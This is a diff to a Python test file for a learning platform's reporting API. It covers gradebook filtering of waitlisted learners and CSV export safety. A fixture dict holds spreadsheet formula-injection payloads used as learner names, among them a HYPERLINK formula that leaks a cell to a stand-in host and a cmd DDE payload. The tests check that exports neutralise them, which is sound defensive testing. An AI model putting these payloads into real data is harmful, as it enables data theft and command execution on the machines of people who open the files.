@@ -137,12 +137,21 @@ def test(t):
          rows(c)[0]["active"] == "1", "seats CSV via Accept", c.body[:200])
 
     # ---- gradebook ---------------------------------------------------------
-    r = adm.get("/v1/reports/cohorts/%s/gradebook" % coh["id"])
+    gb = "/v1/reports/cohorts/%s/gradebook" % coh["id"]
+    r = adm.get(gb)
     g = {x["email"]: x for x in r.json["items"]} if r.status == 200 else {}
     t.eq([x["title"] for x in r.json["assessments"]], ["Q1", "Q2"],
          "gradebook: assessments in curriculum order")
-    t.eq(sorted(g), ["ann@acme.test", "bob@acme.test", "cat@acme.test"],
-         "gradebook: learners not withdrawn")
+    t.eq(sorted(g), ["ann@acme.test", "bob@acme.test"],
+         "gradebook: learners neither withdrawn nor waitlisted")
+    rw = adm.get(gb + "?include=waitlisted")
+    gw = {x["email"]: x for x in rw.json["items"]} if rw.status == 200 else {}
+    t.eq(sorted(gw), ["ann@acme.test", "bob@acme.test", "cat@acme.test"],
+         "gradebook ?include=waitlisted: the waitlisted learner too")
+    r2 = adm.get(gb + "?include=withdrawn")
+    t.ok(r2.is_problem(422) and any(e.get("parameter") == "include"
+                                    for e in r2.json.get("errors", [])),
+         "gradebook ?include=withdrawn: 422 naming the parameter", r2)
     a1 = g["ann@acme.test"]["assessments"]
     b1 = g["bob@acme.test"]["assessments"][q1["id"]]
     t.ok(a1[q1["id"]]["best"] == 100 and a1[q1["id"]]["late"] is True and
@@ -150,11 +159,12 @@ def test(t):
          "gradebook: best scores and the late flag (Q1 due on day 3)", a1)
     t.ok(b1["best"] == 100 and b1["latest"] == 0 and b1["attempts"] == 2,
          "gradebook: best and latest differ, attempts counted", b1)
-    t.eq((g["ann@acme.test"]["final_grade"], g["bob@acme.test"]["final_grade"],
-          g["cat@acme.test"]["final_grade"]), (62.5, 25.0, 0.0),
+    t.eq((gw["ann@acme.test"]["final_grade"],
+          gw["bob@acme.test"]["final_grade"],
+          gw["cat@acme.test"]["final_grade"]), (62.5, 25.0, 0.0),
          "gradebook: weighted final grade (1x100 + 3x50) / 4 = 62.5, "
          "100 / 4 = 25, nothing = 0")
-    c = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % coh["id"])
+    c = adm.get(gb + "?format=csv")
     cr = {x["email"]: x for x in rows(c)}
     t.ok(c.status == 200 and list(rows(c)[0].keys()) ==
          ["email", "name", "state", "Q1", "Q2", "final_grade",
@@ -162,19 +172,36 @@ def test(t):
          cr["ann@acme.test"]["provisional"] == "false" and
          cr["ann@acme.test"]["Q1"] == "100.00" and
          cr["ann@acme.test"]["Q2"] == "50.00" and
-         float(cr["bob@acme.test"]["final_grade"]) == 25.0 and
-         cr["cat@acme.test"]["Q1"] == "",
+         cr["bob@acme.test"]["Q2"] == "" and
+         float(cr["bob@acme.test"]["final_grade"]) == 25.0,
          "gradebook CSV: a column per assessment, agreeing with JSON",
          c.body[:400])
-    pages = walk(adm, "/v1/reports/cohorts/%s/gradebook?limit=1" % coh["id"])
+    t.eq(sorted(cr), ["ann@acme.test", "bob@acme.test"],
+         "gradebook CSV: the waitlisted learner left out")
+    t.eq((cr["ann@acme.test"]["final_grade"],
+          cr["bob@acme.test"]["final_grade"]), ("62.50", "25.00"),
+         "gradebook CSV: a final grade with two decimals, as every score")
+    cw = adm.get(gb + "?format=csv&include=waitlisted")
+    cwr = {x["email"]: x for x in rows(cw)} if cw.status == 200 else {}
+    t.ok(sorted(cwr) == ["ann@acme.test", "bob@acme.test", "cat@acme.test"]
+         and cwr["cat@acme.test"]["state"] == "waitlisted" and
+         cwr["cat@acme.test"]["Q1"] == "" and
+         cwr["cat@acme.test"]["final_grade"] == "0.00",
+         "gradebook CSV ?include=waitlisted: the waitlisted learner, no "
+         "scores, a final grade of 0.00", cw.body[:400])
+    pages = walk(adm, gb + "?include=waitlisted&limit=1")
     t.ok(len(pages) == 3 and all(len(p["items"]) == 1 and
                                  [x["title"] for x in p["assessments"]] ==
                                  ["Q1", "Q2"] for p in pages) and
          [x["email"] for p in pages for x in p["items"]] ==
-         [x["email"] for x in r.json["items"]] == [x["email"] for x in rows(c)],
+         [x["email"] for x in rw.json["items"]] ==
+         [x["email"] for x in rows(cw)],
          "gradebook pages: one learner each, every assessment on each page, "
          "the same learners in the same (enrollment) order as the whole "
          "list and the CSV", [p.get("items") for p in pages])
+    r = adm.get(gb + "?include=waitlisted&limit=1")
+    t.ok("include=waitlisted" in (r.header("link") or ""),
+         "gradebook: the next page's link keeps ?include", r.header("link"))
 
     # ---- completion ----------------------------------------------------------
     r = adm.get("/v1/reports/cohorts/%s/completion" % coh["id"])
@@ -373,8 +400,69 @@ def test(t):
         "/v1/reports/assessments/%s/items" % q1["id"])),
          "learners read no report")
 
+    # ---- CSV export: injection, quoting, the file's name ----------------------
+    csv_export(t, adm, prog)
+
     # ---- report jobs -----------------------------------------------------------
     jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all)
+
+
+# Names a spreadsheet would run as formulas (OWASP CSV injection), and
+# names RFC 4180 quoting has to carry whole.
+FORMULAS = {"eve@acme.test": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+            "pat@acme.test": "+1 555 0100",
+            "mia@acme.test": "-2+3+cmd|' /C calc'!A0",
+            "al@acme.test": "@SUM(A1:A9)",
+            "tab@acme.test": "\t=1+1",
+            "cr@acme.test": "\r=1+1"}
+PLAIN = {"con@acme.test": 'Conan "The Dev" O\'Brien, Jr.',
+         "ml@acme.test": "Two\r\nLines; one record",
+         "ok@acme.test": "Ana-Maria = fine"}
+
+
+def csv_export(t, adm, prog):
+    """Exports as a spreadsheet opens them safely: cells that start a
+    formula get a leading quote, fields are quoted by RFC 4180, the
+    download has a name."""
+    coh = adm.post("/v1/cohorts", {"program_id": prog["id"], "name": "X",
+                                   "starts_at": "2026-01-01T00:00:00Z",
+                                   "ends_at": "2099-01-01T00:00:00Z"}).json
+    for email, name in list(FORMULAS.items()) + list(PLAIN.items()):
+        r = adm.post("/v1/cohorts/%s/enrollments" % coh["id"],
+                     {"email": email, "name": name})
+        assert r.status == 201, r
+    days = {time.strftime("%Y-%m-%d", time.gmtime())}
+    c = adm.get("/v1/reports/cohorts/%s/roster?format=csv" % coh["id"])
+    days.add(time.strftime("%Y-%m-%d", time.gmtime()))
+    got = {x["email"]: x["name"] for x in rows(c)} if c.status == 200 else {}
+    t.eq({e: got.get(e) for e in FORMULAS},
+         {e: "'" + n for e, n in FORMULAS.items()},
+         "roster CSV: a name starting with =, +, -, @, tab or CR gets a "
+         "leading quote")
+    t.ok(b',=HYPERLINK' not in c.body and b'"=HYPERLINK' not in c.body and
+         b"\n=" not in c.body and b",+1" not in c.body,
+         "roster CSV: no cell starts a formula", c.body[:600])
+    t.eq({e: got.get(e) for e in PLAIN}, PLAIN,
+         "roster CSV: quotes, commas, semicolons and line breaks inside a "
+         "name come back whole, and text with = inside is left alone")
+    lines = c.body.split(b"\r\n")
+    t.ok(c.status == 200 and lines[-1] == b"" and
+         len(rows(c)) == len(FORMULAS) + len(PLAIN) and
+         all(None not in x and None not in x.values() for x in rows(c)),
+         "roster CSV: CRLF after every record, each with the header's "
+         "fields", c.body[:600])
+    disp = c.header("content-disposition") or ""
+    t.ok(disp in ['attachment; filename="roster-%s.csv"' % x for x in days],
+         "roster CSV: downloads as roster-<date>.csv", disp)
+    g = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % coh["id"])
+    gn = {x["email"]: x["name"] for x in rows(g)} if g.status == 200 else {}
+    t.ok(gn.get("eve@acme.test") == "'" + FORMULAS["eve@acme.test"] and
+         gn.get("con@acme.test") == PLAIN["con@acme.test"] and
+         (g.header("content-disposition") or "") in
+         ['attachment; filename="gradebook-%s.csv"' % x for x in days],
+         "gradebook CSV: names neutralised and quoted the same way; "
+         "gradebook-<date>.csv", (g.header("content-disposition"),
+                                  g.body[:400]))
 
 
 def jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all):
@@ -400,6 +488,36 @@ def jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all):
     t.ok('filename="gradebook-%s.csv"' % j.get("id") in
          (res.header("content-disposition") or ""),
          "the result downloads as a named file")
+    wc = adm.post("/v1/cohorts", {"program_id": coh["program_id"],
+                                  "name": "W", "capacity": 1,
+                                  "waitlist": True,
+                                  "starts_at": "2026-01-01T00:00:00Z",
+                                  "ends_at": "2099-01-01T00:00:00Z"}).json
+    for n in ("wa", "wb"):
+        adm.post("/v1/cohorts/%s/enrollments" % wc["id"],
+                 {"email": n + "@acme.test", "name": n})
+    r = adm.post("/v1/reports/jobs", {"report": "gradebook",
+                                      "cohort_id": wc["id"], "format": "csv",
+                                      "include": "waitlisted"})
+    j = job_done(adm, r.json) if r.status == 202 else {}
+    res = adm.get(j.get("result_url") or "/none")
+    direct = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv&"
+                     "include=waitlisted" % wc["id"])
+    plain = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % wc["id"])
+    t.ok(r.status == 202 and j.get("args", {}).get("include") ==
+         "waitlisted" and res.status == 200 and res.body == direct.body and
+         [x["state"] for x in rows(res)] == ["active", "waitlisted"] and
+         [x["state"] for x in rows(plain)] == ["active"],
+         "gradebook job with include waitlisted: the direct export with "
+         "?include=waitlisted", (j, res.body[:300]))
+    r = adm.post("/v1/reports/jobs", {"report": "gradebook", "cohort_id": cid,
+                                      "include": "withdrawn"})
+    r2 = adm.post("/v1/reports/jobs", {"report": "roster", "cohort_id": cid,
+                                       "include": "waitlisted"})
+    t.ok(r.is_problem(422) and r2.is_problem(422) and
+         [e["pointer"] for e in r.json.get("errors", []) +
+          r2.json.get("errors", [])] == ["/include", "/include"],
+         "a job's include: only waitlisted, only for the gradebook", (r, r2))
 
     page = adm.get("/v1/reports/cohorts/%s/gradebook?limit=500" % cid).json
     r = adm.post("/v1/reports/jobs", {"report": "gradebook", "cohort_id": cid})
@@ -479,7 +597,7 @@ def jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all):
     listed = [x["id"] for p in walk(adm, "/v1/reports/jobs?limit=2")
               for x in p["items"]]
     t.ok(listed[:2] == [ivy_job["id"], mine["id"]] and
-         len(listed) == len(set(listed)) == 9,
+         len(listed) == len(set(listed)) == 10,
          "an admin lists the tenant's jobs, newest first, paged", listed)
     ann = login(d, "acme", "ann@acme.test")
     t.ok(ann.post("/v1/reports/jobs", {"report": "seats"}).is_problem(403),
